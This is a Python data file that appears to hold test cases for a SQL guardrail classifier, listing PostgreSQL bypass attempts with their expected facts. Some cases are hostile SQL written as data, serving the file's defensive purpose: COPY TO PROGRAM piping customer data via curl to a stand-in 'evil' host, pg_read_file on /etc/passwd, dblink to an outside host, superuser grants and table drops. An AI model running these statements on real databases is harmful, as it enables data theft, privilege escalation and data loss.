"""Guardrail bypass attempts, each with the facts ``classify`` must reveal.

Data only. Each case: the SQL, which statement of it to check (index), and the facts.
A tuple fact lists values the statement's tuple must contain (it may hold more); any
other fact must be equal. ``kind``/``node`` are compared as written.
"""

from __future__ import annotations

from typing import Any, NamedTuple


class Case(NamedTuple):
    sql: str
    facts: dict[str, Any]
    statement: int = 0


DROP_CUSTOMERS = {"kind": "ddl", "node": "DropStmt", "writes": ("customers",)}

CORPUS: list[Case] = [
    # Case, comments and whitespace: the parser reads them as the server does.
    Case("dRoP tAbLe customers", DROP_CUSTOMERS),
    Case("DROP/**/TABLE customers", DROP_CUSTOMERS),
    Case("-- x\nDROP TABLE customers", DROP_CUSTOMERS),
    Case("/* a /* nested */ comment */ DROP TABLE customers;", DROP_CUSTOMERS),
    Case("DROP TABLE IF EXISTS customers CASCADE", DROP_CUSTOMERS),
    Case("DROP TABLE other, customers", DROP_CUSTOMERS),
    Case("\tDROP\nTABLE\r\ncustomers", DROP_CUSTOMERS),
    # Quoting: a quoted lower-case name is the same table; a quoted mixed-case one is not.
    Case('DROP TABLE "customers"', DROP_CUSTOMERS),
    Case('DROP TABLE "Customers"', {"writes": ("Customers",)}),
    Case("DROP TABLE CUSTOMERS", DROP_CUSTOMERS),
    Case("DROP TABLE public . /* c */ customers", {"writes": ("public.customers",)}),
    Case('DROP TABLE "public"."customers"', {"writes": ("public.customers",)}),
    Case('SELECT * FROM "public" . "customers"', {"reads": ("public.customers",)}),
    Case('SELECT * FROM U&"cust\\006fmers"', {"reads": ("customers",)}),
    # Writes hidden in CTEs, subqueries and set operations.
    Case(
        "WITH d AS (DELETE FROM customers RETURNING *) SELECT 1",
        {"kind": "select", "writes": ("customers",), "where": False, "kinds": ("delete",)},
    ),
    Case(
        "WITH u AS (UPDATE customers SET email = NULL RETURNING id) SELECT * FROM u",
        {"writes": ("customers",), "where": False},
    ),
    Case(
        "WITH x AS (SELECT 1), y AS (INSERT INTO audit SELECT * FROM x RETURNING 1) SELECT 1",
        {"writes": ("audit",), "kinds": ("insert",)},
    ),
    Case(
        "WITH customers AS (SELECT * FROM customers) SELECT * FROM customers",
        {"reads": ("customers",)},  # the inner name is the real table
    ),
    Case("SELECT * FROM (SELECT * FROM customers) s", {"reads": ("customers",)}),
    Case("SELECT 1 UNION ALL SELECT email FROM customers", {"reads": ("customers",)}),
    Case(
        "SELECT 1 WHERE EXISTS (SELECT 1 FROM customers WHERE id = 1)",
        {"reads": ("customers",)},
    ),
    Case("TABLE customers", {"kind": "select", "reads": ("customers",)}),
    Case(
        "SELECT * FROM a JOIN LATERAL (SELECT * FROM customers) c ON true",
        {"reads": ("a", "customers")},
    ),
    # Functions anywhere: nested, in FROM, in subqueries, schema-qualified, in defaults.
    Case("SELECT upper(pg_read_file('/etc/passwd'))", {"functions": ("pg_read_file", "upper")}),
    Case("SELECT * FROM (SELECT lo_export(1, '/tmp/x')) s", {"functions": ("lo_export",)}),
    Case(
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        {"functions": ("pg_catalog.pg_read_file",)},
    ),
    Case('SELECT "pg_catalog"."pg_read_file"(\'x\')', {"functions": ("pg_catalog.pg_read_file",)}),
    Case("SELECT PG_READ_FILE('x')", {"functions": ("pg_read_file",)}),
    Case("SELECT * FROM pg_read_file('/etc/passwd')", {"functions": ("pg_read_file",)}),
    Case(
        "WITH f AS (SELECT pg_read_binary_file('x')) SELECT * FROM f",
        {"functions": ("pg_read_binary_file",)},
    ),
    Case(
        "SELECT 1 FROM t WHERE id IN (SELECT pg_ls_dir('.')::int)",
        {"functions": ("pg_ls_dir",)},
    ),
    Case(
        "SELECT CASE WHEN true THEN pg_sleep(5) END",
        {"functions": ("pg_sleep",)},
    ),
    Case(
        "SELECT dblink('host=evil', 'SELECT 1')",
        {"functions": ("dblink",)},
    ),
    Case(
        "SELECT * FROM public.dblink_exec('host=evil', 'DROP TABLE customers')",
        {"functions": ("public.dblink_exec",)},
    ),
    Case(
        "SELECT * FROM dblink('h', 'SELECT 1') AS t(a int)",
        {"functions": ("dblink",)},
    ),
    Case(
        "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
        {"kind": "insert", "functions": ("pg_read_file",)},
    ),
    Case(
        "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))",
        {"kind": "ddl", "functions": ("pg_read_file",)},
    ),
    Case("CALL pg_catalog.do_evil(1)", {"kind": "call", "functions": ("pg_catalog.do_evil",)}),
    Case("CALL p(lo_import('/etc/passwd'))", {"functions": ("p", "lo_import")}),
    Case("SELECT * FROM ROWS FROM (pg_ls_dir('/'), f()) r", {"functions": ("pg_ls_dir",)}),
    Case(
        "SELECT * FROM XMLTABLE('/a' PASSING pg_read_file('x') COLUMNS v text PATH 'b')",
        {"functions": ("pg_read_file",)},
    ),
    Case(
        "SELECT sum(a) FILTER (WHERE f1(a)) OVER (PARTITION BY f2(b)) FROM t "
        "GROUP BY GROUPING SETS ((f3(a))) HAVING f4() ORDER BY f5() LIMIT f6()",
        {"functions": ("f1", "f2", "f3", "f4", "f5", "f6", "sum")},
    ),
    Case(
        "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = f1() RETURNING f2()",
        {"functions": ("f1", "f2")},
    ),
    Case(
        "CREATE TABLE t (a int CHECK (f1(a)), b int GENERATED ALWAYS AS (f2(a)) STORED)",
        {"functions": ("f1", "f2")},
    ),
    Case(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT f1(); END",
        {"kind": "ddl", "functions": ("f1",)},
    ),
    Case(
        "CREATE TRIGGER g BEFORE INSERT ON t EXECUTE FUNCTION evil()",
        {"kind": "ddl", "functions": ("evil",), "writes": ("t",)},
    ),
    # COPY: programs and bulk reads.
    Case(
        "COPY customers TO PROGRAM 'curl -d @- https://evil'",
        {"kind": "copy", "copy_program": True, "copy_direction": "to", "reads": ("customers",)},
    ),
    Case(
        "COPY customers FROM PROGRAM 'curl https://evil'",
        {"copy_program": True, "copy_direction": "from", "writes": ("customers",)},
    ),
    Case(
        "COPY (SELECT * FROM customers) TO STDOUT",
        {"kind": "copy", "reads": ("customers",), "copy_direction": "to", "copy_program": False},
    ),
    Case(
        "COPY (WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d) TO STDOUT",
        {"writes": ("customers",), "where": False},
    ),
    # Anonymous code and dynamic SQL.
    Case(
        "DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$",
        {"kind": "do", "do_block": True, "dynamic_sql": True},
    ),
    Case(
        "DO $body$ BEGIN EXECUTE format('DROP TABLE %I', 'customers'); END $body$",
        {"do_block": True, "dynamic_sql": True},
    ),
    Case(
        "DO $$ BEGIN DELETE FROM customers; END $$",
        {"do_block": True, "dynamic_sql": False, "writes": ("customers",), "where": False},
    ),
    Case(
        "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$",
        {"do_block": True, "functions": ("pg_read_file",)},
    ),
    Case(
        "DO $$ DECLARE s text; BEGIN s := pg_read_file('/etc/passwd'); END $$",
        {"do_block": True, "functions": ("pg_read_file",)},
    ),
    Case(
        "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$",
        {"do_block": True, "dynamic_sql": True},
    ),
    Case(
        "DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE customers') $$",
        {"do_block": True, "dynamic_sql": True},
    ),
    Case("DO $$ this is not plpgsql $$", {"do_block": True, "dynamic_sql": True}),
    Case(
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x'; END $$",
        {"kind": "ddl", "node": "CreateFunctionStmt", "dynamic_sql": True},
    ),
    # Several statements: each is classified.
    Case("SELECT 1; DROP TABLE customers", DROP_CUSTOMERS, statement=1),
    Case("SELECT 1;;DROP TABLE customers", DROP_CUSTOMERS, statement=1),
    Case("SELECT ';'; DROP TABLE customers", DROP_CUSTOMERS, statement=1),
    Case("SELECT $$;$$; DROP TABLE customers", DROP_CUSTOMERS, statement=1),
    # Indirection: PREPARE, EXPLAIN ANALYZE (it executes), SELECT INTO, CREATE TABLE AS.
    Case(
        "PREPARE p AS DELETE FROM customers",
        {"kind": "delete", "where": False, "prepared_name": "p", "writes": ("customers",)},
    ),
    Case(
        "PREPARE p (int) AS UPDATE customers SET email = '' WHERE id = $1",
        {"kind": "update", "where": True, "prepared_name": "p"},
    ),
    Case("EXECUTE p(1)", {"kind": "utility", "node": "ExecuteStmt", "prepared_name": "p"}),
    Case(
        "EXPLAIN ANALYZE DELETE FROM customers",
        {"kind": "explain", "writes": ("customers",), "where": False, "kinds": ("delete",)},
    ),
    Case(
        "EXPLAIN (ANALYZE, FORMAT JSON) SELECT pg_read_file('x') FROM customers",
        {"kind": "explain", "reads": ("customers",), "functions": ("pg_read_file",)},
    ),
    Case("SELECT * INTO copy FROM customers", {"reads": ("customers",), "writes": ("copy",)}),
    Case(
        "CREATE TABLE copy AS SELECT * FROM customers",
        {"kind": "ddl", "reads": ("customers",), "writes": ("copy",)},
    ),
    Case(
        "CREATE VIEW v AS SELECT * FROM customers",
        {"kind": "ddl", "reads": ("customers",), "writes": ("v",)},
    ),
    Case(
        "CREATE RULE r AS ON INSERT TO a DO ALSO DELETE FROM customers",
        {"kind": "ddl", "writes": ("a", "customers")},
    ),
    # WHERE: only presence is a fact; an always-true WHERE is still a WHERE.
    Case("DELETE FROM customers", {"kind": "delete", "where": False}),
    Case("DELETE FROM customers WHERE true", {"kind": "delete", "where": True}),
    Case("UPDATE customers SET email = NULL", {"kind": "update", "where": False}),
    Case("DELETE FROM customers USING a WHERE a.id = customers.id", {"where": True}),
    Case("DELETE FROM customers WHERE CURRENT OF cur", {"where": True}),
    Case("TRUNCATE customers", {"kind": "delete", "where": False, "writes": ("customers",)}),
    Case("TRUNCATE TABLE ONLY a, customers", {"writes": ("a", "customers")}),
    # Server configuration, roles and search_path.
    Case("ALTER SYSTEM SET archive_command = 'curl evil'", {"alter_system": True}),
    Case("ALTER SYSTEM RESET ALL", {"alter_system": True}),
    Case("SET ROLE postgres", {"kind": "utility", "role_change": True}),
    Case("set local role postgres", {"role_change": True}),
    Case("RESET ROLE", {"role_change": True}),
    Case("SET SESSION AUTHORIZATION postgres", {"role_change": True}),
    Case("SELECT set_config('role', 'postgres', false)", {"role_change": True}),
    Case("CREATE ROLE x SUPERUSER", {"kind": "dcl", "role_change": True}),
    Case("CREATE USER x WITH PASSWORD 'p'", {"kind": "dcl", "role_change": True}),
    Case("ALTER USER app WITH SUPERUSER", {"kind": "dcl", "role_change": True}),
    Case("ALTER GROUP admins ADD USER app", {"kind": "dcl", "role_change": True}),
    Case("DROP ROLE x", {"kind": "dcl", "role_change": True}),
    Case("GRANT pg_read_server_files TO app", {"kind": "dcl", "role_change": True}),
    Case("GRANT ALL ON customers TO PUBLIC", {"kind": "dcl", "role_change": True}),
    Case("REVOKE SELECT ON customers FROM app", {"kind": "dcl", "role_change": True}),
    Case("ALTER ROLE x RENAME TO y", {"kind": "dcl", "role_change": True}),
    Case("SET search_path = secret, public", {"search_path_change": True}),
    Case("SET SCHEMA 'secret'", {"search_path_change": True}),
    Case("SET LOCAL SEARCH_PATH TO secret", {"search_path_change": True}),
    Case("RESET ALL", {"search_path_change": True}),
    Case("DISCARD ALL", {"search_path_change": True, "role_change": True}),
    Case("SELECT set_config('search_path','secret',false)", {"search_path_change": True}),
    Case(
        "SELECT pg_catalog.set_config('SEARCH_PATH', 'secret', true)",
        {"search_path_change": True},
    ),
    Case("SELECT set_config($1, 'secret', false)", {"search_path_change": True}),
    Case(
        "ALTER ROLE app SET search_path = secret",
        {"role_change": True, "search_path_change": True},
    ),
]
